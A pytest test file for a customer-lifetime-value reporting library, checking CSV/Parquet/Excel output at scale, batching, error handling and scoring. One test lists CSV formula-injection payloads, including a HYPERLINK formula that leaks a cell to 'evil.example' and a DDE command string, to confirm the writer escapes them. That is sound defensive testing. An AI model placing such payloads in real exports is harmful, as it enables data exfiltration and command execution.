"""Outputs at scale (the CSV contract, the sheet cap, a million customers) and shared scoring."""

import datetime as dt
from types import SimpleNamespace

import numpy as np
import openpyxl
import pandas as pd
import pytest

from clvreport.config import ClientConfig
from clvreport.i18n import Translator
from clvreport.outputs import (
    EXCEL_MAX_ROWS,
    customer_table,
    write_action_lists,
    write_customer_table,
    write_outputs,
)
from clvreport.segments import default_segment_rules

HEADER_ROW = 3  # 1-based: title, note, header


def test_csv_keeps_columns_four_decimals_dates_and_awkward_text(tmp_path):
    frame = pd.DataFrame(
        {
            "customer_id": ["K1", "K,2", 'K"3', "=K4", "K5\nnieuw"],
            "naam": ["Anna", None, "Bert; de Vries", "", "Één"],
            "segment": pd.Categorical(["lost", "champions", "lost", "at_risk", "lost"]),
            "n_purchases": np.array([1, 2, 3, 4, 5], dtype="int64"),
            "revenue": [10.123456, 0.00004, 123456789.98765, -1.5, np.nan],
            "p_alive": pd.array([0.5, None, 0.25, 1.0, 0.0], dtype="Float64"),
            "first_purchase": pd.to_datetime(
                ["2022-03-15", "2023-01-01", None, "2024-02-29", "2021-12-31"]
            ),
            "clv": np.float32([1.23456, 2.5, 3.0, 4.0, 5.0]),
        }
    )
    csv_path, parquet_path = tmp_path / "customers.csv", tmp_path / "customers.parquet"
    write_customer_table(frame, csv_path, parquet_path)
    text = csv_path.read_text(encoding="utf-8")
    assert text.splitlines()[0] == (
        "customer_id,naam,segment,n_purchases,revenue,p_alive,first_purchase,clv"
    )
    assert "2022-03-15," in text and "00:00:00" not in text  # plain dates
    back = pd.read_csv(csv_path, keep_default_na=False, na_values=[""])
    assert back.columns.tolist() == frame.columns.tolist()
    # a spreadsheet would run "=K4" as a formula: the CSV escapes it (OWASP)
    assert back["customer_id"].tolist() == ["K1", "K,2", 'K"3', "'=K4", "K5\nnieuw"]
    assert back["naam"].fillna("").tolist() == frame["naam"].fillna("").tolist()
    assert back["segment"].tolist() == frame["segment"].astype(str).tolist()
    assert back["n_purchases"].tolist() == [1, 2, 3, 4, 5]
    for column in ("revenue", "p_alive", "clv"):
        expected = pd.to_numeric(frame[column]).astype("float64").round(4)
        np.testing.assert_allclose(back[column], expected, atol=1e-9, rtol=0)
    assert pd.to_datetime(back["first_purchase"]).equals(frame["first_purchase"])
    parquet = pd.read_parquet(parquet_path)
    assert parquet.columns.tolist() == frame.columns.tolist()
    assert parquet["revenue"].iloc[0] == frame["revenue"].iloc[0]  # full precision
    assert parquet["customer_id"].tolist() == frame["customer_id"].tolist()  # ids as they are


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "-2+3+cmd",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_csv_cells_never_start_a_formula(tmp_path, value):
    frame = pd.DataFrame({"customer_id": [value, "K2"], "email": [value, "a@b.nl"]})
    csv_path, parquet_path = tmp_path / "customers.csv", tmp_path / "customers.parquet"
    write_customer_table(frame, csv_path, parquet_path)
    back = pd.read_csv(csv_path, keep_default_na=False)
    for column in ("customer_id", "email"):
        assert back[column].iloc[0] == "'" + value
        assert back[column].iloc[1] == frame[column].iloc[1]
    assert pd.read_parquet(parquet_path)["customer_id"].iloc[0] == value


def test_no_sheet_can_exceed_the_excel_row_limit(tmp_path):
    # The largest xlsx_max_rows the config accepts still fits a sheet with its three top rows.
    limit = ClientConfig.model_fields["xlsx_max_rows"].metadata
    most = min(m.le for m in limit if hasattr(m, "le"))
    assert most + HEADER_ROW <= EXCEL_MAX_ROWS
    customers = pd.DataFrame(
        {
            "customer_id": ["A", "B", "C"],
            "segment": ["lost", "lost", "champions"],
            "n_purchases": [1, 2, 3],
            "revenue": [10.0, 20.0, 30.0],
        }
    )
    path = tmp_path / "customers.xlsx"
    write_action_lists(path, customers, Translator("en", "EUR"), max_rows=10 * EXCEL_MAX_ROWS)
    book = openpyxl.load_workbook(path, read_only=True)
    assert all(sheet.max_row <= EXCEL_MAX_ROWS for sheet in book.worksheets)


def _big_analysis(n: int, max_rows: int) -> SimpleNamespace:
    rng = np.random.default_rng(11)
    codes = np.array(default_segment_rules().codes)
    p_alive = rng.uniform(0, 1, n)
    if_alive = rng.gamma(2.0, 100.0, n)
    clv = p_alive * if_alive
    ids = np.char.add("C", np.char.zfill(np.arange(n).astype(str), 9))
    customers = pd.DataFrame(
        {
            "customer_id": ids,
            "segment": codes[rng.integers(0, len(codes), n)],
            "n_purchases": rng.integers(1, 20, n),
            "revenue": rng.gamma(2.0, 200.0, n),
            "first_purchase": pd.Timestamp("2022-01-01")
            + pd.to_timedelta(rng.integers(0, 700, n), "D"),
            "last_purchase": pd.Timestamp("2024-01-01")
            + pd.to_timedelta(rng.integers(0, 365, n), "D"),
            "historic_clv": rng.gamma(2.0, 70.0, n),
            "p_alive": p_alive,
            "expected_purchases": rng.uniform(0, 4, n),
            "purchases_low": np.zeros(n),
            "purchases_high": rng.uniform(1, 8, n),
            "expected_spend": rng.gamma(3.0, 30.0, n),
            "clv": clv,
            "clv_low": 0.5 * clv,
            "clv_high": 2.0 * clv,
            "clv_if_alive": if_alive,
            "value_at_stake": (1 - p_alive) * if_alive,
        }
    )
    summary = pd.DataFrame(
        {
            "customer_id": ids,
            "frequency": rng.integers(0, 20, n).astype(float),
            "recency": rng.uniform(0, 150, n),
            "T": rng.uniform(0, 156, n),
            "monetary_value": rng.gamma(6.0, 10.0, n),
        }
    )
    config = ClientConfig.model_validate(
        {
            "name": "Groot B.V.",
            "data": {
                "sources": "orders.parquet",
                "columns": {"customer_id": "klant", "date": "datum", "amount": "bedrag"},
            },
            "xlsx_max_rows": max_rows,
        }
    )
    return SimpleNamespace(
        config=config,
        customers=customers,
        summary=summary,
        rules=default_segment_rules(),
        has_predictions=True,
        model=SimpleNamespace(to_dict=lambda: {"model_name": "bgnbd"}, spend_caps=None),
        calibration_end=None,
        as_of=dt.date(2024, 12, 31),
        figures=SimpleNamespace(as_dict=lambda: {}),
        holdout_coverage=None,
        holdout_intervals=None,
        base_value=None,
        revenue_last_year=0.0,
    )


@pytest.mark.slow
def test_many_customers_write_every_file_in_batches(tmp_path, monkeypatch):
    # how long a million take is measured in bench/bench_outputs.py, not asserted here;
    # small batches make these 300,000 customers cross many of them
    import clvreport.outputs as outputs

    monkeypatch.setattr(outputs, "BATCH_ROWS", 65_536)
    n, cap = 300_000, 5000
    analysis = _big_analysis(n, cap)
    written = write_outputs(analysis, tmp_path, Translator("nl", "EUR"))
    assert [p.name for p in written] == [
        "customers.csv",
        "customers.parquet",
        "customers.xlsx",
        "model.json",
    ]
    columns = customer_table(analysis).columns.tolist()
    head = pd.read_csv(tmp_path / "customers.csv", nrows=1000)
    assert head.columns.tolist() == columns
    parquet = pd.read_parquet(tmp_path / "customers.parquet")
    assert len(parquet) == n and parquet.columns.tolist() == columns
    ordered = parquet.head(1000)
    for column in ("clv", "p_alive", "recency", "revenue"):
        np.testing.assert_allclose(head[column], ordered[column].round(4), atol=1e-9, rtol=0)
    book = openpyxl.load_workbook(tmp_path / "customers.xlsx", read_only=True)
    assert len(book.worksheets) >= 2
    for sheet in book.worksheets[1:]:
        assert sheet.max_row <= HEADER_ROW + cap
    assert (tmp_path / "customers.xlsx").stat().st_size < 20 * 2**20


def test_a_full_disk_while_duckdb_writes_is_an_os_error():
    import errno

    from clvreport.outputs import _os_error

    error = _os_error(
        RuntimeError('IO Error: Could not write file "x.csv": No space left on device'), "x.csv"
    )
    assert isinstance(error, OSError)
    assert (error.errno, error.filename) == (errno.ENOSPC, "x.csv")
    assert _os_error(RuntimeError("IO Error: odd"), "x.csv").errno == errno.EIO


def test_an_unwritable_csv_raises_os_error(tmp_path):
    frame = pd.DataFrame({"customer_id": ["A"], "clv": [1.0]})
    with pytest.raises(OSError):
        write_customer_table(frame, tmp_path / "missing" / "customers.csv", tmp_path / "c.parquet")


def test_segments_reuse_the_customers_alive_forecast_exactly(monkeypatch):
    from clvreport.models import fit_clv_models, score_customers, score_segments, scoring
    from clvreport.models.simulate import simulate_summary

    summary = simulate_summary(
        "bgnbd",
        {"r": 0.25, "alpha": 4.0, "a": 0.8, "b": 2.5},
        3000,
        spend_params={"p": 6.0, "q": 4.0, "gamma": 15.0},
        seed=3,
    )
    summary["segment"] = np.where(summary["frequency"] > 1, "repeat", "few")
    fit = fit_clv_models(summary, model="bgnbd")
    scoring._ALIVE_CACHE.clear()
    fresh = score_segments(fit, summary, "segment", n_draws=40)
    scoring._ALIVE_CACHE.clear()
    customers = score_customers(fit, summary, n_draws=40)
    assert len(scoring._ALIVE_CACHE) == 1
    calls = []
    forecast = scoring.forecast_if_alive
    monkeypatch.setattr(
        scoring, "forecast_if_alive", lambda *args: calls.append(1) or forecast(*args)
    )
    reused = score_segments(fit, summary, "segment", n_draws=40)
    assert len(calls) == 1  # the point forecast only: the draws' forecast was reused
    assert len(scoring._ALIVE_CACHE) == 1
    pd.testing.assert_frame_equal(fresh, reused)
    scoring._ALIVE_CACHE.clear()
    again = score_customers(fit, summary, n_draws=40)
    pd.testing.assert_frame_equal(customers, again)
    other = score_customers(fit, summary, n_draws=40, horizon_months=6)
    assert (other["expected_purchases"] <= customers["expected_purchases"] + 1e-12).all()
    assert len(scoring._ALIVE_CACHE) == 1


@pytest.mark.parametrize("order", ["same", "shuffled", "partial", "empty"])
def test_join_columns_is_the_left_merge(order):
    """Joining the scores without copying the customers gives exactly pandas' left merge."""
    from clvreport.analysis import join_columns

    rng = np.random.default_rng(4)
    ids = pd.array([f"c{i}" for i in range(200)], dtype="str")
    left = pd.DataFrame({"customer_id": ids, "revenue": rng.gamma(2.0, 50.0, 200)})
    right = pd.DataFrame(
        {
            "customer_id": ids,
            "clv": rng.gamma(2.0, 40.0, 200),
            "n": rng.integers(0, 9, 200),
            "active": rng.random(200) < 0.5,
        }
    )
    if order == "shuffled":
        right = right.sample(frac=1.0, random_state=1)
    elif order == "partial":
        right = right.sample(frac=0.6, random_state=2)
    elif order == "empty":
        right = right.iloc[:0]
    joined = join_columns(left, right)
    pd.testing.assert_frame_equal(joined, left.merge(right, on="customer_id", how="left"))


def test_customer_files_written_in_batches_are_the_sorted_table(tmp_path, monkeypatch):
    """Batches of the sort order write the same rows as one sorted copy would.

    The summary is shuffled, so its model inputs must be joined by customer, not
    by position; the first 20% of rows are the top tiers (ties keep their order).
    """
    from clvreport import outputs
    from clvreport.outputs import CustomerRows
    from clvreport.recommendations import PlanRules

    analysis = _big_analysis(5_000, 100)
    analysis.customers["segment"] = analysis.customers["segment"].astype("category")
    analysis.customers.loc[:999, "clv"] = 50.0  # a block of ties
    analysis.summary = analysis.summary.sample(frac=1.0, random_state=3)
    rows = CustomerRows.of(analysis)
    monkeypatch.setattr(outputs, "BATCH_ROWS", 700)
    write_outputs(analysis, tmp_path, Translator("en", "EUR"))
    table = customer_table(analysis)
    parquet = pd.read_parquet(tmp_path / "customers.parquet")
    pd.testing.assert_frame_equal(parquet, table)
    csv = pd.read_csv(tmp_path / "customers.csv")
    assert csv["customer_id"].astype(str).tolist() == table["customer_id"].tolist()
    np.testing.assert_allclose(csv["clv"], table["clv"].round(4), atol=1e-9, rtol=0)
    # sorted by clv, largest first; equal values in the analysis' order
    assert table["clv"].is_monotonic_decreasing
    tied = table.loc[table["clv"] == 50.0, "customer_id"].tolist()
    assert tied == analysis.customers.loc[:999, "customer_id"].tolist()
    # model inputs belong to the customer, whatever the summary's order
    by_id = analysis.summary.set_index("customer_id")
    assert table["frequency"].tolist() == by_id.loc[table["customer_id"], "frequency"].tolist()
    assert table["recency"].tolist() == by_id.loc[table["customer_id"], "recency"].tolist()
    # actions follow the segments; the first 20% are the top tiers
    action_of = {s: r["action"] for s, r in PlanRules.from_config(analysis.config).segments.items()}
    assert table["action"].tolist() == [action_of.get(s) for s in table["segment"].astype(str)]
    top = int(0.2 * len(table))
    assert set(table["value_tier"].iloc[:top].astype(str)) <= {"top1", "top5", "top20"}
    assert set(table["value_tier"].iloc[top:].astype(str)) == {"rest"}
    assert len(rows) == len(table)


def test_join_columns_falls_back_to_merge_where_merge_renames_repeats_or_refuses():
    from clvreport.analysis import join_columns

    left = pd.DataFrame({"customer_id": ["a", "b"], "returns": [1.0, 2.0], "self": [1, 2]})
    shared = pd.DataFrame({"customer_id": ["b", "a"], "returns": [5.0, 6.0]})
    pd.testing.assert_frame_equal(
        join_columns(left, shared), left.merge(shared, on="customer_id", how="left")
    )
    twice = pd.DataFrame({"customer_id": ["a", "a"], "clv": [1.0, 2.0]})
    pd.testing.assert_frame_equal(
        join_columns(left, twice), left.merge(twice, on="customer_id", how="left")
    )
    # repeated keys are found whether or not the keys are sorted (sorted and
    # strictly increasing is the quick answer for unique ones)
    for ids in (["a", "b", "b"], ["b", "a", "b"], ["a", "a", "b"]):
        repeated = pd.DataFrame({"customer_id": pd.array(ids, dtype="str"), "clv": [1.0, 2.0, 3.0]})
        pd.testing.assert_frame_equal(
            join_columns(left, repeated), left.merge(repeated, on="customer_id", how="left")
        )
    numeric = pd.DataFrame({"customer_id": [1, 2], "clv": [1.0, 2.0]})
    with pytest.raises(ValueError):
        join_columns(left, numeric)
    # any column name works, "self" included (a client's extra column may be called so)
    named_self = pd.DataFrame({"customer_id": ["a"], "self": ["x"]})
    plain = left.drop(columns="self")
    pd.testing.assert_frame_equal(
        join_columns(plain, named_self), plain.merge(named_self, on="customer_id", how="left")
    )


def test_csv_shows_categorical_dates_and_floats_as_plain_columns(tmp_path):
    """Labels stored as categories are written as their values: dates plain, floats rounded."""
    frame = pd.DataFrame(
        {
            "customer_id": ["a", "b", "c"],
            "cohort": pd.Categorical(pd.to_datetime(["2024-01-01", "2024-02-01", "2024-01-01"])),
            "band": pd.Categorical([0.123456, 1.5, 0.123456]),
        }
    )
    write_customer_table(frame, tmp_path / "c.csv", tmp_path / "c.parquet")
    lines = (tmp_path / "c.csv").read_text().splitlines()
    assert lines == [
        "customer_id,cohort,band",
        "a,2024-01-01,0.1235",
        "b,2024-02-01,1.5",
        "c,2024-01-01,0.1235",
    ]


@pytest.mark.parametrize("threads", [2, 3])
def test_customers_csv_in_parts_is_the_file_of_one_writer(tmp_path, monkeypatch, threads):
    """The runs formatted side by side and appended give the bytes of one COPY, in file
    order, with one header, and leave no part file behind."""
    from clvreport import outputs
    from clvreport.models import threads as pool
    from clvreport.outputs import CustomerRows

    analysis = _big_analysis(5_000, 100)
    analysis.customers.loc[:999, "clv"] = 50.0  # ties keep the analysis' order in every run
    rows = CustomerRows.of(analysis)
    monkeypatch.setattr(outputs, "BATCH_ROWS", 700)  # 8 batches
    monkeypatch.setattr(pool, "THREADS", 1)
    one = tmp_path / "one"
    one.mkdir()
    outputs._write_csv(rows, one / "customers.csv")
    monkeypatch.setattr(pool, "THREADS", threads)
    parted = tmp_path / "parted"
    parted.mkdir()
    outputs._write_csv(rows, parted / "customers.csv")
    whole = (parted / "customers.csv").read_bytes()
    assert whole == (one / "customers.csv").read_bytes()
    assert [p.name for p in parted.iterdir()] == ["customers.csv"]
    lines = whole.decode().splitlines()
    assert len(lines) == 5_001 and lines.count(lines[0]) == 1
    ids = pd.read_csv(parted / "customers.csv", dtype={"customer_id": str})["customer_id"]
    assert ids.tolist() == rows.to_pandas()["customer_id"].astype(str).tolist()


def test_customers_csv_of_no_customers_is_its_header(tmp_path, monkeypatch):
    from clvreport import outputs
    from clvreport.models import threads as pool
    from clvreport.outputs import CustomerRows

    monkeypatch.setattr(pool, "THREADS", 2)
    rows = CustomerRows.of(_big_analysis(50, 10))
    empty = CustomerRows(rows.table.slice(0, 0), rows.order[:0])
    outputs._write_csv(empty, tmp_path / "customers.csv")
    text = (tmp_path / "customers.csv").read_text()
    assert text.splitlines() == [",".join(rows.table.column_names)]
    assert [p.name for p in tmp_path.iterdir()] == ["customers.csv"]


def test_reason_sentences_are_codes_in_memory_and_text_in_the_files(tmp_path, monkeypatch):
    """The reasons stay categorical in the customer rows (17 million sentences took
    2.5 GB as text) and reach customers.csv and .parquet as plain text, each
    customer's own."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    from clvreport import outputs
    from clvreport.outputs import CustomerRows

    analysis = _big_analysis(3_000, 100)
    analysis.customers["segment"] = analysis.customers["segment"].astype("category")
    said = pd.Series(
        pd.Categorical.from_codes(
            np.arange(3_000) % 3, categories=["=rises.", "stays, quietly.", 'says "hi".']
        ),
        index=analysis.customers.index,
    )
    columns = outputs.customer_columns(analysis)
    monkeypatch.setattr(
        outputs, "audience", lambda business: SimpleNamespace(reasons=lambda *a, **k: said)
    )
    rows = CustomerRows.of(analysis, columns=columns, t=Translator("en", "EUR"))
    assert pa.types.is_dictionary(rows.table.schema.field("reason").type)
    assert rows.schema.field("reason").type in (pa.string(), pa.large_string())
    monkeypatch.setattr(outputs, "BATCH_ROWS", 700)
    write_customer_table(rows, tmp_path / "c.csv", tmp_path / "c.parquet")
    expected = said.astype(str).to_numpy()[rows.order]
    parquet = pq.read_table(tmp_path / "c.parquet")
    assert parquet.schema.field("reason").type in (pa.string(), pa.large_string())
    assert parquet.column("reason").to_pylist() == expected.tolist()
    assert pd.read_parquet(tmp_path / "c.parquet")["reason"].tolist() == expected.tolist()
    csv = pd.read_csv(tmp_path / "c.csv", keep_default_na=False)
    # a sentence a spreadsheet would run as a formula gets its apostrophe in the CSV only
    guarded = ["'" + text if text.startswith("=") else text for text in expected]
    assert csv["reason"].tolist() == guarded
    assert rows.to_pandas()["reason"].tolist() == expected.tolist()
    # the actions too are codes in memory and text in the files, each the segment's
    from clvreport.recommendations import PlanRules

    assert rows.as_text == ("action", "reason")
    action_of = {k: r["action"] for k, r in PlanRules.from_config(analysis.config).segments.items()}
    table = rows.to_pandas()
    own = [action_of.get(segment) for segment in table["segment"].astype(str)]
    assert table["action"].tolist() == own == parquet.column("action").to_pylist()
    assert csv["action"].tolist() == own
